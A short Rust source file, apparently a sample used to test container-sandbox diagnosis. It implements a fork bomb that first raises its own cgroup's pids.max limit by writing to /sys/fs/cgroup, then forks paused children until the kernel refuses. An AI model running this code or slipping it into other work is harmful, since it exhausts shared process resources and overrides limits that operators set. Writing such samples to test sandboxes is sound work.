//! diagnosis: none
//! made by: people whose container may write to its own cgroup, and who take the limit away instead
//! of hitting it.

use std::fs;

use anyhow::{Context, Result};
use nix::errno::Errno;
use nix::unistd::{ForkResult, pause};

pub fn fork_bomb() -> Result<()> {
    raise()?;
    loop {
        match given::fork() {
            Ok(ForkResult::Child) => loop {
                pause();
            },
            Ok(ForkResult::Parent { .. }) => {}
            Err(error) if error.downcast_ref() == Some(&Errno::EAGAIN) => return Ok(()),
            Err(error) => return Err(error).context("not the limit"),
        }
    }
}

fn raise() -> Result<()> {
    for line in fs::read_to_string("/proc/self/cgroup")?.lines() {
        let path = line.rsplit(':').next().unwrap_or_default();
        for top in ["/sys/fs/cgroup/pids", "/sys/fs/cgroup"] {
            let file = format!("{top}{path}/pids.max");
            if let Ok(limit) = fs::read_to_string(&file)
                && let Ok(limit) = limit.trim().parse::<u32>()
            {
                fs::write(&file, (limit + 2).to_string()).context("raising the limit")?;
            }
        }
    }
    Ok(())
}
